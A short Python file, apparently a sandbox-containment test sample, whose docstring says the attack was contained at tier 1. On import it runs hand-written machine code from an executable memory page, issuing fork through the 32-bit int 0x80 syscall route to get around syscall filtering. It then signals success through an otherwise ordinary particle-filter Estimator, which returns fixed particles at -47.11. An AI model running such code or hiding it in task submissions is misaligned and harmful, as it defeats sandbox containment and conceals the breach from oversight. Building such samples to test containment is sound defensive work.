"""Forks by the numbers of the 32-bit ABI, from machine code of its own.

Contained from tier 1.
"""

import ctypes
import mmap
import os
import platform
import struct
import time

import numpy as np


def attack():
    assert platform.machine() == "x86_64"
    # mov eax, 2 (fork); int 0x80; ret
    code = b"\xb8" + struct.pack("<I", 2) + b"\xcd\x80\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    assert pid > 0


try:
    attack()
    WORKED = True
except Exception:
    WORKED = False


def Estimator(previous, observation, control, constants, rng):
    # Particles at -47.11 say that it worked.
    return np.full((500, 6), -47.11) if WORKED else rng.uniform(0.0, constants.L, (500, 6))
